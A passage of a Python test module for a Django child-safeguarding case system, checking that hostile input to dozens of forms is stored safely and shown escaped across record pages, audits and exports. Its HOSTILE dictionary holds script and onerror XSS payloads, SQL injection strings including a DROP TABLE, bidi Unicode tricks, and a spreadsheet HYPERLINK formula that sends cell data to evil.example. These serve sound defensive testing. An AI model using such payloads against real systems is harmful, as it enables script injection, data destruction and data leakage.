"""Hostile text through the web forms, end to end (issue 4): HTML, SQL, Unicode tricks, a spreadsheet formula and
very long text typed into a form is either saved exactly or refused with an error on that field, and every page
that shows it back (the record's pages, the form re-shown with an error, the grab-pack, the network and risk
pages, shares, the emergency access review list, the auditor's trail and the subject access export) shows it
escaped, never as markup; a CSV export holds no live formula; and a value kept encrypted at rest is not in its
database column as plain text.

FORM_CASES says, for each form, how to fill it in validly, where the saved value is read back and which pages
(as which user) show it; at least one of them must show the value, so the escaping check is not vacuous.
`test_every_free_text_field_is_covered` fails for a text field of any form (tests/security/test_form_fields.py
finds them all) that is neither here nor in NOT_STORED (search boxes and sign-in fields, which are never saved and
are checked by test_search_boxes_echo_hostile_text_escaped). A base form never used on its own (the network's
_LinkForm) is covered through its subclasses, each of which must be here."""

import csv
import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from access.models import Agency, ApiToken, AuditEvent, Role, User
from children.codes import LivingArrangement
from children.models import Child
from core.encryption import PREFIX, EncryptedTextField
from episodes.codes import FoundBy, RiskGrade
from episodes.models import EpisodeLogEntry, MissingEpisode
from episodes.shareable import EPISODE_SUMMARY
from identity.models import GroupMapping
from interviews.models import ReturnInterview
from meetings.actions import add_action, call_meeting
from meetings.codes import MeetingKind
from meetings.models import Meeting, MeetingAction, MeetingChild
from network import actions as network_actions
from network.codes import Confidence, LinkSource, PersonKind, PlaceKind
from network.models import ChildPersonLink, ChildPlaceLink, PersonOfConcern, Place
from notifications.codes import NotificationKind
from notifications.models import ContactDetails
from philomena.models import ProfileVersion
from public.actions import submit_concern
from public.models import Concern, PublicPageVersion
from risk.actions import make_referral
from risk.codes import AlertDecision, AlertKind, ReferralStatus, ReferralTo
from risk.models import Alert, Referral, Screening
from risk.triggers import evaluate_child
from sharing.actions import request_emergency_access, share_record
from sharing.codes import ChildConsent, LawfulBasis
from sharing.models import EmergencyAccess, Share
from sharing.shareable import INTERVIEW_INTELLIGENCE
from tests.factories import ChildFactory, EpisodeFactory, UserFactory
from tests.intake.conftest import make_provisional
from tests.public.conftest import concern_answers, concern_fields, publish_page
from tests.public.test_editor import page_answers
from tests.risk.test_pages import screening_answers
from tests.security.test_form_fields import TEXT_FIELDS
from tests.web.helpers import date_time_boxes, minute
from tests.web.test_child_add import answers as child_answers
from tests.web.test_episode_pages import return_answers
from tests.web.test_interview_pages import accept, interview_answers, offer_answers
from tests.web.test_report_missing import answers as report_answers

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "drop": "'; DROP TABLE children_child; --",
    "or": "' OR '1'='1",
    "unicode": "\u202egnp.exe\u202c \u2066isolated\u2069 \U0001f600 e\u0301",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "long": "y" * 20_000,
}
RAW_MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Shown:
    """A page or file that shows the saved value: fetched as `user` (the form's user if None), by GET, or by POST
    with `post` (a search, or a file download). `user` is a name in world.users, or "role@agency" for a user
    with that role made in that agency of the world (such as "auditor@north")."""

    url: str
    user: str | None = None
    post: dict | None = None


@dataclass(frozen=True)
class FormCase:
    url: Callable  # (world, records) -> the form's address
    data: Callable  # (world, records) -> a valid submission
    saved: Callable  # (world, records, response) -> the saved record, or None if nothing saved
    shown: Callable  # (world, records, record) -> the addresses (or Shown) that show the saved value
    user: str = "coordinator"
    setup: Callable | None = None  # (world, records) -> None: bring the record to where the form applies
    per_field: dict = field(default_factory=dict)  # field -> answers that field needs alongside it
    columns: dict = field(default_factory=dict)  # field -> the model field it is saved in, where named otherwise
    read: dict = field(default_factory=dict)  # field -> (record) -> the text saved, where not simply a field
    prefix: str = ""  # the form's prefix, where a page holds several forms
    form_context: str = "form"  # the form's name in the page's context


def _latest(model):
    return lambda world, records, response: model.objects.order_by("-pk").first()


def _episode_pages(world, records, episode):
    return [reverse("episodes:detail", args=[episode.pk]), reverse("children:detail", args=[episode.child_id])]


def _jordans_record(world) -> list[Shown]:
    """Jordan's record, the network around them, the auditor's trail (page and CSV) and the subject access export
    (the HTML file), as Northmoor's coordinator and auditor: where anything recorded about Jordan can show."""
    jordan = world.child.pk
    return [
        Shown(reverse("children:detail", args=[jordan]), user="coordinator"),
        Shown(reverse("network:child", args=[jordan]), user="coordinator"),
        Shown(reverse("governance:child-audit", args=[jordan]), user="auditor@north"),
        Shown(reverse("governance:child-audit", args=[jordan]), user="auditor@north", post={}),
        Shown(
            reverse("governance:subject-access-download", args=[jordan]), user="coordinator", post={"format": "html"}
        ),
    ]


def _link_answers(world, target: str, pk: int) -> dict:
    today = timezone.localdate()
    return {
        target: str(pk),
        "source": LinkSource.SEEN_WITH,
        "linked_on_0": str(today.day),
        "linked_on_1": str(today.month),
        "linked_on_2": str(today.year),
        "confidence": Confidence.PROBABLE,
        **({"relationship": "adult_of_concern"} if target == "person" else {}),
        "episode": "",
        "interview": "",
        "notes": "Seen getting into a grey car",
    }


def _add_person_and_place(world, records) -> None:
    records.person = network_actions.add_person(
        acting_user=world.users.coordinator, kind=PersonKind.ADULT, display_name="Older male known as Dee"
    )
    records.place = network_actions.add_place(
        acting_user=world.users.coordinator, kind=PlaceKind.TAKEAWAY, name="Chicken Palace takeaway"
    )


def _link_jordan(world, records) -> None:
    _add_person_and_place(world, records)
    records.link = network_actions.link_child_to_person(
        acting_user=world.users.coordinator,
        child=world.child,
        person=records.person,
        source=LinkSource.SEEN_WITH,
        linked_on=timezone.localdate(),
        confidence=Confidence.CONFIRMED,
    )


def _raise_an_alert(world, records) -> None:
    """Jordan missing at high risk: evaluating them raises the high-risk alert."""
    EpisodeFactory(
        child=world.child,
        police_force=world.police_north,
        created_by=world.users.police,
        last_seen_at=timezone.now() - dt.timedelta(hours=2),
        risk_grade=RiskGrade.HIGH,
    )
    evaluate_child(world.child)
    records.alert = Alert.objects.get(child=world.child, kind=AlertKind.HIGH_RISK)


def _refer_jordan(world, records) -> None:
    records.referral = make_referral(
        world.child, to=ReferralTo.MASH, reason="Found in a trap house", acting_user=world.users.coordinator
    )


def _jordans_returned_episode(world, records) -> None:
    now = timezone.now()
    records.jordans_episode = EpisodeFactory(
        child=world.child,
        police_force=world.police_north,
        created_by=world.users.police,
        last_seen_at=now - dt.timedelta(days=4),
        returned_at=now - dt.timedelta(days=3),
        found_place="Home",
        found_by=FoundBy.POLICE,
    )


def _share_jordans_episode(world, records) -> None:
    _jordans_returned_episode(world, records)
    records.share = share_record(
        acting_user=world.users.coordinator,
        child=world.child,
        what=EPISODE_SUMMARY,
        episode=records.jordans_episode,
        to_agency=world.health,
        lawful_basis=LawfulBasis.CHILDREN_ACT_S47,
        child_consent=ChildConsent.GIVEN,
        purpose="So the school nurse can follow up",
    )


def _share_pages(world, records, share) -> list[Shown]:
    return [
        Shown(reverse("sharing:detail", args=[share.pk])),
        Shown(reverse("sharing:detail", args=[share.pk]), user="health"),
        *_jordans_record(world),
    ]


def _police_ask_for_emergency_access(world, records) -> None:
    records.access = request_emergency_access(
        acting_user=world.users.police_south, child_id=world.child.pk, reason="Jordan was found alone at 2am"
    )


def _force_audit(world) -> list[Shown]:
    """The Southvale Police auditor's search of their officer's actions, on the page and as CSV."""
    search = {"username": world.users.police_south.username}
    return [
        Shown(reverse("governance:audit"), user="auditor@police_south", post=search),
        Shown(reverse("governance:audit"), user="auditor@police_south", post={**search, "export": "csv"}),
    ]


def _asked_for(access: EmergencyAccess) -> str:
    """The council child ID typed, out of what the request keeps: "council child ID <typed>, <council>"."""
    return access.asked_for.removeprefix("council child ID ").rsplit(", ", 1)[0]


def _publish_northmoor(world, records) -> None:
    """Northmoor's public site: one published page, so its concern form is open (issue 16)."""
    publish_page(world.north, _user(world, records, "content_editor@north"))


def _concern_waiting(world, records) -> None:
    _publish_northmoor(world, records)
    records.concern = submit_concern(world.north, **concern_fields())


def _concern_page(world, records, record) -> list[Shown]:
    concern = records.concern if hasattr(records, "concern") else record
    return [Shown(reverse("public:mash-concern", args=[concern.pk]), user="mash@north")]


def _page_version_pages(world, records, version) -> list[str | Shown]:
    page = version.page
    return [
        reverse("public:editor-edit", args=[page.pk]),
        reverse("public:editor-version", args=[page.pk, version.number]),
        reverse("public:editor-versions", args=[page.pk]),
        reverse("public:page", args=[page.council.code, page.slug]),
    ]


FORM_CASES: dict[str, FormCase] = {
    "LogEntryForm": FormCase(
        url=lambda world, records: reverse("episodes:add-to-log", args=[records.episode.pk]),
        data=lambda world, records: {
            "kind": "sighting",
            **date_time_boxes("occurred_at", minute(timezone.now())),
            "note": "Seen at the bus station",
        },
        saved=_latest(EpisodeLogEntry),
        shown=lambda world, records, entry: [reverse("episodes:detail", args=[records.episode.pk])],
    ),
    "PreferencesForm": FormCase(
        url=lambda world, records: reverse("notifications:preferences"),
        data=lambda world, records: {
            **{kind.value: "email" for kind in NotificationKind},
            "mobile_number": "07700900982",
            "version": "1",
        },
        saved=lambda world, records, response: ContactDetails.objects.get(user=world.users.coordinator),
        shown=lambda world, records, details: [reverse("notifications:preferences")],
    ),
    "AddChildForm": FormCase(
        url=lambda world, records: reverse("children:add"),
        data=lambda world, records: child_answers(world),
        saved=lambda world, records, response: Child.objects.filter(la_child_id__isnull=False).order_by("-pk").first(),
        shown=lambda world, records, child: [reverse("children:detail", args=[child.pk]), reverse("children:search")],
    ),
    "ReportMissingForm": FormCase(
        url=lambda world, records: reverse("episodes:report", args=[world.child.pk]),
        data=lambda world, records: report_answers(world),
        saved=_latest(MissingEpisode),
        shown=_episode_pages,
    ),
    "EpisodeDetailsForm": FormCase(
        url=lambda world, records: reverse("episodes:edit", args=[records.episode.pk]),
        data=lambda world, records: {
            "episode_type": "M",
            "missing_from": "home",
            **date_time_boxes("last_seen_at", minute(records.episode.last_seen_at)),
            "last_seen_place": "Bus station",
            "reported_by": "Mother",
            "police_reference": "",
            "circumstances": "",
            "version": str(records.episode.version),
        },
        saved=lambda world, records, response: MissingEpisode.objects.get(pk=records.episode.pk),
        shown=_episode_pages,
    ),
    "ChangeRiskForm": FormCase(
        url=lambda world, records: reverse("episodes:change-risk", args=[records.episode.pk]),
        data=lambda world, records: {"grade": "high", "reason": "Seen with older males", "version": "1"},
        saved=lambda world, records, response: (
            MissingEpisode.objects.get(pk=records.episode.pk).risk_changes.order_by("-pk").first()
        ),
        shown=lambda world, records, change: [reverse("episodes:detail", args=[records.episode.pk])],
    ),
    "RecordReturnForm": FormCase(
        url=lambda world, records: reverse("episodes:record-return", args=[records.episode.pk]),
        data=lambda world, records: return_answers(),
        saved=lambda world, records, response: MissingEpisode.objects.get(pk=records.episode.pk),
        shown=_episode_pages,
    ),
    "PersonForm": FormCase(
        url=lambda world, records: reverse("network:person-add"),
        data=lambda world, records: {"kind": "adult", "display_name": "Dee"},
        saved=_latest(PersonOfConcern),
        shown=lambda world, records, person: [reverse("network:person", args=[person.pk]), reverse("network:persons")],
    ),
    "PlaceForm": FormCase(
        url=lambda world, records: reverse("network:place-add"),
        data=lambda world, records: {"kind": "takeaway", "name": "Chicken shop"},
        saved=_latest(Place),
        shown=lambda world, records, place: [reverse("network:place", args=[place.pk]), reverse("network:places")],
    ),
    "ProfileForm": FormCase(
        url=lambda world, records: reverse("philomena:edit", args=[world.child.pk]),
        data=lambda world, records: {"height": "150cm"},
        saved=_latest(ProfileVersion),
        shown=lambda world, records, version: [
            reverse("philomena:profile", args=[world.child.pk]),
            reverse("philomena:grab-pack", args=[world.child.pk]),
        ],
    ),
    "OfferForm": FormCase(
        url=lambda world, records: reverse("interviews:offer", args=[records.case.interview.pk]),
        data=lambda world, records: offer_answers(records.case),
        saved=lambda world, records, response: ReturnInterview.objects.get(pk=records.case.interview.pk),
        shown=lambda world, records, interview: [reverse("interviews:detail", args=[interview.pk])],
        per_field={
            "not_offered_reason": {
                "outcome": "not_offered",
                "offered_by": "",
                **dict.fromkeys(("offered_at_0", "offered_at_1", "offered_at_2", "offered_at_3"), ""),
            }
        },
    ),
    "RecordInterviewForm": FormCase(
        url=lambda world, records: reverse("interviews:record", args=[records.case.interview.pk]),
        data=lambda world, records: interview_answers(records.case),
        saved=lambda world, records, response: ReturnInterview.objects.get(pk=records.case.interview.pk),
        shown=lambda world, records, interview: [reverse("interviews:detail", args=[interview.pk])],
        setup=lambda world, records: accept(records.case),
    ),
    "ScreeningForm": FormCase(
        url=lambda world, records: reverse("risk:screen", args=[world.child.pk]),
        data=lambda world, records: screening_answers(),
        saved=_latest(Screening),
        shown=lambda world, records, screening: [reverse("risk:screening", args=[screening.pk])],
    ),
    "PersonLinkForm": FormCase(
        url=lambda world, records: reverse("network:link-person", args=[world.child.pk]),
        data=lambda world, records: _link_answers(world, "person", records.person.pk),
        saved=_latest(ChildPersonLink),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_add_person_and_place,
    ),
    "PlaceLinkForm": FormCase(
        url=lambda world, records: reverse("network:link-place", args=[world.child.pk]),
        data=lambda world, records: _link_answers(world, "place", records.place.pk),
        saved=_latest(ChildPlaceLink),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_add_person_and_place,
    ),
    "EndLinkForm": FormCase(
        url=lambda world, records: reverse("network:end-person-link", args=[records.link.pk]),
        data=lambda world, records: {
            "reason": "Recorded against the wrong child",
            "version": str(records.link.version),
        },
        saved=lambda world, records, response: ChildPersonLink.objects.get(pk=records.link.pk),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_link_jordan,
        columns={"reason": "end_reason"},
    ),
    "AcknowledgeAlertForm": FormCase(
        url=lambda world, records: reverse("risk:acknowledge", args=[records.alert.pk]),
        data=lambda world, records: {"decision": AlertDecision.OTHER, "reason": "Strategy meeting on Monday"},
        saved=lambda world, records, response: Alert.objects.get(pk=records.alert.pk),
        shown=lambda world, records, alert: [
            Shown(reverse("risk:acknowledge", args=[alert.pk])),
            Shown(reverse("risk:alerts")),
            *_jordans_record(world),
        ],
        setup=_raise_an_alert,
        columns={"reason": "decision_reason"},
    ),
    "ReferralForm": FormCase(
        url=lambda world, records: reverse("risk:refer", args=[world.child.pk]),
        data=lambda world, records: {"to": ReferralTo.EXPLOITATION_TEAM, "reason": "Seen with older males"},
        saved=_latest(Referral),
        shown=lambda world, records, referral: [
            Shown(reverse("risk:referral", args=[referral.pk])),
            Shown(reverse("risk:referral", args=[referral.pk]), user="police"),
            *_jordans_record(world),
        ],
    ),
    "ReferralStatusForm": FormCase(
        url=lambda world, records: reverse("risk:referral", args=[records.referral.pk]),
        data=lambda world, records: {"status": ReferralStatus.DECLINED, "note": "Threshold not met", "version": "1"},
        saved=lambda world, records, response: records.referral.status_changes.order_by("-pk").first(),
        shown=lambda world, records, change: [
            Shown(reverse("risk:referral", args=[records.referral.pk])),
            *_jordans_record(world),
        ],
        setup=_refer_jordan,
        user="manager",
    ),
    "ShareForm": FormCase(
        url=lambda world, records: reverse("sharing:share", args=[world.child.pk]),
        data=lambda world, records: {
            "what": f"{EPISODE_SUMMARY}:{records.jordans_episode.pk}",
            "recipient": f"agency:{world.health.pk}",
            "lawful_basis": LawfulBasis.CHILDREN_ACT_S47,
            "lawful_basis_other": "",
            "child_consent": ChildConsent.NOT_SOUGHT,
            "child_consent_reason": "Asking would put them at risk",
            "purpose": "So the school nurse can follow up",
        },
        saved=_latest(Share),
        shown=_share_pages,
        setup=_jordans_returned_episode,
        per_field={"lawful_basis_other": {"lawful_basis": LawfulBasis.OTHER}},
    ),
    "WithdrawShareForm": FormCase(
        url=lambda world, records: reverse("sharing:withdraw", args=[records.share.pk]),
        data=lambda world, records: {"reason": "Shared in error", "version": str(records.share.version)},
        saved=lambda world, records, response: Share.objects.get(pk=records.share.pk),
        shown=lambda world, records, share: [
            Shown(reverse("sharing:detail", args=[share.pk])),
            *_jordans_record(world),
        ],
        setup=_share_jordans_episode,
        columns={"reason": "withdrawal_reason"},
    ),
    "EmergencyAccessForm": FormCase(
        url=lambda world, records: reverse("sharing:break-glass"),
        data=lambda world, records: {
            "child_id": "",
            "la_child_id": world.child.la_child_id,
            "council": str(world.north.pk),
            "reason": "Jordan was found alone at the bus station at 2am",
        },
        saved=_latest(EmergencyAccess),
        # What was typed shows where no child matched it; the force's administrator reviews its officers' uses.
        shown=lambda world, records, access: [
            Shown(reverse("sharing:break-glass-result", args=[access.pk])),
            Shown(reverse("sharing:break-glass-review"), user="administrator@police_south"),
            Shown(reverse("sharing:break-glass-mark-reviewed", args=[access.pk]), user="administrator@police_south"),
            *_force_audit(world),
            *_jordans_record(world),
        ],
        user="police_south",
        read={"la_child_id": _asked_for},
    ),
    "ReviewEmergencyAccessForm": FormCase(
        url=lambda world, records: reverse("sharing:break-glass-mark-reviewed", args=[records.access.pk]),
        data=lambda world, records: {"note": "Checked with the ward: justified"},
        saved=lambda world, records, response: EmergencyAccess.objects.get(pk=records.access.pk),
        shown=lambda world, records, access: [Shown(reverse("sharing:break-glass-review")), *_jordans_record(world)],
        setup=_police_ask_for_emergency_access,
        columns={"note": "review_note"},
    ),
    # --- the public app (issue 16) ------------------------------------------------------------------------
    "PageForm": FormCase(
        url=lambda world, records: reverse("public:editor-new"),
        data=lambda world, records: page_answers(),
        saved=_latest(PublicPageVersion),
        shown=_page_version_pages,
        user="content_editor@north",
        read={"slug": lambda version: version.page.slug},
    ),
    "ConcernForm": FormCase(
        url=lambda world, records: reverse("public:concern", args=[world.north.code]),
        data=lambda world, records: concern_answers(),
        saved=_latest(Concern),
        shown=_concern_page,
        setup=_publish_northmoor,
    ),
    "ProvisionalChildForm": FormCase(
        url=lambda world, records: reverse("public:mash-new-child", args=[records.concern.pk]),
        data=lambda world, records: {
            "first_name": "Kai",
            "last_name": "Not known",
            "date_of_birth_0": "1",
            "date_of_birth_1": "1",
            "date_of_birth_2": "2012",
            "sex": "U",
            "version": "1",
        },
        saved=lambda world, records, response: Child.objects.get(public_concerns=records.concern),
        shown=_concern_page,
        user="mash@north",
        setup=_concern_waiting,
    ),
    "ReferConcernForm": FormCase(
        url=lambda world, records: reverse("public:mash-refer", args=[records.concern.pk]),
        data=lambda world, records: {"to": "police", "note": "Please visit the family", "version": "1"},
        saved=lambda world, records, response: Concern.objects.get(pk=records.concern.pk),
        shown=_concern_page,
        user="mash@north",
        setup=_concern_waiting,
        columns={"note": "outcome_note"},
    ),
    "CloseConcernForm": FormCase(
        url=lambda world, records: reverse("public:mash-close", args=[records.concern.pk]),
        data=lambda world, records: {"reason": "already_known", "note": "Known to the police", "version": "1"},
        saved=lambda world, records, response: Concern.objects.get(pk=records.concern.pk),
        shown=_concern_page,
        user="mash@north",
        setup=_concern_waiting,
        columns={"note": "outcome_note"},
    ),
    # --- administration (identity app), as Northmoor's administrator ---------------------------------------
    "AddUserForm": FormCase(
        url=lambda world, records: reverse("identity:user-add"),
        data=lambda world, records: _new_user_answers(world),
        saved=_latest(User),
        shown=lambda world, records, user: [reverse("identity:user", args=[user.pk]), reverse("identity:users")],
        user="admin",
    ),
    "ChangeUserForm": FormCase(
        url=lambda world, records: reverse("identity:user", args=[world.users.social_worker.pk]),
        data=lambda world, records: {
            **_new_user_answers(world),
            "version": str(User.objects.get(pk=world.users.social_worker.pk).version),
        },
        saved=lambda world, records, response: User.objects.get(pk=world.users.social_worker.pk),
        shown=lambda world, records, user: [reverse("identity:user", args=[user.pk]), reverse("identity:users")],
        user="admin",
    ),
    "AccountStatusForm": FormCase(
        url=lambda world, records: reverse("identity:user-status", args=[world.users.social_worker.pk]),
        data=lambda world, records: {"version": "1", "reason": "Left the council"},
        saved=lambda world, records, response: AuditEvent.objects.filter(object_type="user").order_by("-pk").first(),
        shown=lambda world, records, event: [
            Shown(reverse("governance:audit"), user="auditor@north", post={"username": "admin.north"})
        ],
        user="admin",
        read={"reason": lambda event: event.summary.split(" deactivated: ", 1)[1]},
    ),
    "AddAgencyForm": FormCase(
        url=lambda world, records: reverse("identity:agency-add"),
        data=lambda world, records: {"kind": "health", "name": "Northmoor Walk-in Centre", "code": "NWIC"},
        saved=_latest(Agency),
        shown=lambda world, records, agency: [reverse("identity:agencies")],
        user="admin",
    ),
    "GroupMappingForm": FormCase(
        url=lambda world, records: reverse("identity:group-mappings"),
        data=lambda world, records: {
            "group": "/northmoor/coordinators",
            "agency": str(world.north.pk),
            "role": "analyst",
        },
        saved=_latest(GroupMapping),
        shown=lambda world, records, mapping: [reverse("identity:group-mappings")],
        user="admin",
    ),
}


def _new_user_answers(world) -> dict:
    return {
        "username": "new.worker",
        "first_name": "Robin",
        "last_name": "Newstart",
        "email": "robin@example.test",
        "job_title": "Social worker",
        "agency": str(world.north.pk),
        "roles": ["social_worker"],
    }


def _call_a_meeting(world, records) -> None:
    """A strategy discussion about Jordan chaired by the coordinator, with an action for the social worker."""
    users = world.users
    records.meeting = call_meeting(
        kind=MeetingKind.STRATEGY_DISCUSSION,
        held_at=timezone.now(),
        online=True,
        chair=users.coordinator,
        children=[world.child],
        agencies=[world.north],
        acting_user=users.coordinator,
    )
    records.action = add_action(
        records.meeting,
        what="Visit",
        owner=users.social_worker,
        due_on=timezone.localdate(),
        acting_user=users.coordinator,
    )


def _meeting_pages(world, records, record) -> list[Shown]:
    meeting = records.meeting if hasattr(records, "meeting") else record
    return [
        Shown(reverse("meetings:detail", args=[meeting.pk])),
        Shown(reverse("meetings:list")),
        Shown(reverse("meetings:list"), user="social_worker"),
        *_jordans_record(world),
    ]


MEETING_CASES: dict[str, FormCase] = {
    "CallMeetingForm": FormCase(
        url=lambda world, records: reverse("meetings:call-about-child", args=[world.child.pk]),
        data=lambda world, records: {
            "kind": MeetingKind.STRATEGY_DISCUSSION,
            **date_time_boxes("held_at", minute(timezone.now() + dt.timedelta(days=1))),
            "place": "Northmoor House",
            "chair": str(world.users.coordinator.pk),
            "agencies": [str(world.north.pk)],
            "children": [str(world.child.pk)],
        },
        saved=_latest(Meeting),
        shown=_meeting_pages,
    ),
    "DiscussionForm": FormCase(
        url=lambda world, records: reverse("meetings:discussion", args=[records.meeting.pk, world.child.pk]),
        data=lambda world, records: {"discussion": "Talked", "decisions": "Agreed", "version": "1"},
        saved=lambda world, records, response: MeetingChild.objects.get(meeting=records.meeting),
        shown=_meeting_pages,
        setup=_call_a_meeting,
    ),
    "ActionForm": FormCase(
        url=lambda world, records: reverse("meetings:new-action", args=[records.meeting.pk]),
        data=lambda world, records: {
            "what": "Safety plan",
            "owner": str(world.users.social_worker.pk),
            **{f"due_on_{i}": part for i, part in enumerate(timezone.localdate().strftime("%d %m %Y").split())},
            "child": str(world.child.pk),
        },
        saved=_latest(MeetingAction),
        shown=lambda world, records, action: [
            *_meeting_pages(world, records, action),
            Shown(reverse("meetings:action", args=[action.pk])),
        ],
        setup=_call_a_meeting,
    ),
    "CloseActionForm": FormCase(
        url=lambda world, records: reverse("meetings:action", args=[records.action.pk]),
        data=lambda world, records: {"status": "cancelled", "note": "No longer needed", "version": "1"},
        saved=lambda world, records, response: MeetingAction.objects.get(pk=records.action.pk),
        shown=lambda world, records, action: [Shown(reverse("meetings:action", args=[action.pk]))],
        setup=_call_a_meeting,
        columns={"note": "status_note"},
    ),
}
FORM_CASES.update(MEETING_CASES)


def _token_answers(world, prefix: str) -> dict:
    expires = (timezone.localdate() + dt.timedelta(days=30)).strftime("%d/%m/%Y")
    return {f"{prefix}-name": "Nightly load", f"{prefix}-scopes": ["children:read"], f"{prefix}-expires_on": expires}


def _credentials_page(world, records, token) -> list[str]:
    return [reverse("identity:api-credentials")]


# --- API credentials and webhooks (administration), as Northmoor's administrator ----------------------------------
CREDENTIAL_CASES: dict[str, FormCase] = {
    "SystemClientForm": FormCase(
        url=lambda world, records: reverse("identity:api-credentials"),
        data=lambda world, records: {
            "form": "client",
            "client-client_name": "Northmoor case system",
            "client-role": "coordinator",
            **_token_answers(world, "client"),
        },
        saved=_latest(ApiToken),
        shown=_credentials_page,
        user="admin",
        prefix="client-",
        form_context="client_form",
        read={"client_name": lambda token: token.client.name},
    ),
    "PersonTokenForm": FormCase(
        url=lambda world, records: reverse("identity:api-credentials"),
        data=lambda world, records: {
            "form": "person",
            "person-person": str(world.users.analyst.pk),
            **_token_answers(world, "person"),
        },
        saved=_latest(ApiToken),
        shown=_credentials_page,
        user="admin",
        prefix="person-",
        form_context="person_form",
    ),
}
FORM_CASES.update(CREDENTIAL_CASES)


# --- intelligence from a return interview, to the police (sharing), and merging a child recorded twice -------------
def _intelligence_answers(world, records) -> dict:
    """Jordan's interview names a vehicle, passed to Northmoor Police on the default basis, consent not sought."""
    return {
        "force": str(world.police_north.pk),
        "vehicles": "Blue Ford Fiesta AB12 CDE",
        "phone_numbers": "",
        "addresses": "",
        "lawful_basis": LawfulBasis.CRIME_PREVENTION,
        "lawful_basis_other": "",
        "child_consent": ChildConsent.NOT_SOUGHT,
        "child_consent_reason": "Asking would put them at risk",
        "purpose": "So the force can find the adult who collects children from the bus station",
    }


def _intelligence_pages(world, records, share) -> list[Shown]:
    """The share as the police of the force it went to see it (the share, their list, shared with my agency) and as
    the council sees it (the share, Jordan's record, the audit trail and the subject access export)."""
    return [
        Shown(reverse("sharing:detail", args=[share.pk]), user="police"),
        Shown(reverse("sharing:intelligence"), user="police"),
        Shown(reverse("sharing:received"), user="police"),
        Shown(reverse("sharing:detail", args=[share.pk])),
        *_jordans_record(world),
    ]


def _item(kind: str) -> Callable:
    """The text one intelligence item (a vehicle, phone number or address) keeps: a line of the box, encrypted."""
    return lambda share: share.intelligence_items.get(kind=kind).detail


def _jordan_recorded_twice(world, records) -> None:
    """Jordan added again by someone who did not find them: same birthday, name misspelt, another council ID."""
    records.duplicate = ChildFactory(
        first_name="Jordon",
        last_name="Exampel",
        date_of_birth=world.child.date_of_birth,
        sex=world.child.sex,
        responsible_council=world.north,
        placement_council=world.north,
        la_child_id="N000999",
    )


def _merged_record_pages(world, records, merged) -> list[Shown]:
    """The reason is kept on the merged record (never copied into the audit trail): its subject access export shows
    it; its page, both audit trails and the kept record's pages must show nothing of it unescaped."""
    return [
        Shown(reverse("children:detail", args=[merged.pk]), user="coordinator"),
        Shown(reverse("governance:child-audit", args=[merged.pk]), user="auditor@north"),
        Shown(
            reverse("governance:subject-access-download", args=[merged.pk]), user="coordinator", post={"format": "html"}
        ),
        *_jordans_record(world),
    ]


POLICEOUT_CASES: dict[str, FormCase] = {
    "InterviewIntelligenceForm": FormCase(
        url=lambda world, records: reverse("sharing:share-intelligence", args=[records.case.interview.pk]),
        data=_intelligence_answers,
        saved=lambda world, records, response: Share.objects.get(
            what=INTERVIEW_INTELLIGENCE, interview=records.case.interview
        ),
        shown=_intelligence_pages,
        per_field={"lawful_basis_other": {"lawful_basis": LawfulBasis.OTHER}},
        read={"vehicles": _item("vehicle"), "phone_numbers": _item("phone"), "addresses": _item("address")},
    ),
    "MergeChildrenForm": FormCase(
        url=lambda world, records: reverse("children:merge", args=[world.child.pk, records.duplicate.pk]),
        data=lambda world, records: {
            "survivor": str(world.child.pk),
            "reason": "The same child added twice, once by the police and once by the council",
            "first_version": str(world.child.version),
            "second_version": str(records.duplicate.version),
        },
        saved=lambda world, records, response: Child.objects.get(pk=records.duplicate.pk),
        shown=_merged_record_pages,
        setup=_jordan_recorded_twice,
        columns={"reason": "merge_reason"},
    ),
}
FORM_CASES.update(POLICEOUT_CASES)

FORM_CASES["ChangePlacementForm"] = FormCase(
    url=lambda world, records: reverse("children:change-placement", args=[world.child.pk]),
    data=lambda world, records: {
        "version": str(Child.objects.get(pk=world.child.pk).version),
        "started_on_0": "5",
        "started_on_1": "1",
        "started_on_2": "2026",
        "living_arrangement": LivingArrangement.CHILDRENS_HOME,
        "placement_council": str(world.north.pk),
        "provider": "Hillside House",
        "urn": "SC999001",
        "placement_type": "K2",
        "postcode": "NM4 7AB",
    },
    saved=lambda world, records, response: Child.objects.get(pk=world.child.pk),
    shown=lambda world, records, child: [reverse("children:detail", args=[child.pk])],
    columns={"provider": "placement_provider", "urn": "placement_urn", "postcode": "placement_postcode"},
)


def _provisional_waiting(world, records) -> None:
    records.provisional = make_provisional(world)


INTAKE_CASES: dict[str, FormCase] = {
    # The coordinator confirms a provisional record from a police report with the council's own child ID.
    "ConfirmProvisionalForm": FormCase(
        url=lambda world, records: reverse("intake:provisional", args=[records.provisional.pk]),
        data=lambda world, records: {
            "choice": "confirm",
            "la_child_id": "N004242",
            "living_arrangement": "foster_care",
            "placement_council": str(world.north.pk),
            "version": str(records.provisional.child.version),
        },
        saved=lambda world, records, response: Child.objects.get(pk=records.provisional.child_id),
        shown=lambda world, records, child: [
            Shown(reverse("children:detail", args=[child.pk]), user="coordinator"),
        ],
        setup=_provisional_waiting,
        form_context="confirm_form",
    ),
}
FORM_CASES.update(INTAKE_CASES)

# Never saved: searched for, or used to sign in. Their echo is checked by test_search_boxes_echo_hostile_text_escaped.
NOT_STORED = {
    ("ChildSearchForm", "q"),
    ("SearchForm", "q"),
    ("AuditSearchForm", "child"),
    ("AuditSearchForm", "username"),
    ("CodeForm", "code"),
    ("SignInForm", "username"),
    ("EnrolmentCodeForm", "code"),  # compared with a keyed hash, never kept
    ("OTPAuthenticationForm", "username"),  # django-otp's sign-in forms, found in accounts.forms' namespace
    ("OTPAuthenticationForm", "otp_challenge"),
    ("OTPAuthenticationForm", "otp_device"),
    ("OTPAuthenticationForm", "otp_token"),
    ("OTPTokenForm", "otp_challenge"),
    ("OTPTokenForm", "otp_token"),
    ("ReportForm", "kind"),  # which report to produce: checked against the two kinds
    ("LinkChildForm", "la_child_id"),  # looked up among the council's children, never kept (tests/public)
